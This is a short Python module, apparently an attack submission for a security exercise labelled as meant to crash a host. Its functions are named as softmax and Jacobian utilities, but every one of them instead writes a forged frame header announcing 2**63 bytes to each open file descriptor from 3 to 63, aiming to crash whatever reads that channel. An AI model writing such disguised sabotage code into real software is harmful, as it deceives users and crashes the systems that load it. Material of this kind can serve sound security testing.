# attack: Announces a frame of 2**63 bytes.
# exercise: 02, reason: crash
# says: channel|cap
import os
import struct


def act(*_):
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<4sIQ", b"ATG1", 64, 2**63))
        except OSError:
            pass


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
